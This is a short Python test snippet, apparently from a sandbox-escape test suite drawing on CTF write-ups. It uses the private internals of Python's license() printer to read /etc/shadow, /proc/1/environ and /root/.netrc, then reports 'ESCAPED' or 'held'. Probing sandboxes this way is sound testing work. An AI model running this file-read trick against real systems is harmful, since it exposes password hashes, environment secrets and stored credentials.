# technique: the printer behind license() reads the file that one tells it
# source: CTF write-ups: license._Printer__filenames
# verdict: WA
# invariant: the file is not there
# without: seccomp capabilities network read_only_root
for path in ("/etc/shadow", "/proc/1/environ", "/root/.netrc"):
    license._Printer__lines = None
    license._Printer__data = ""
    license._Printer__filenames = [path]
    license._Printer__setup()
    lines = license._Printer__lines
    print("ESCAPED" if any(lines) else "held", lines[:3])
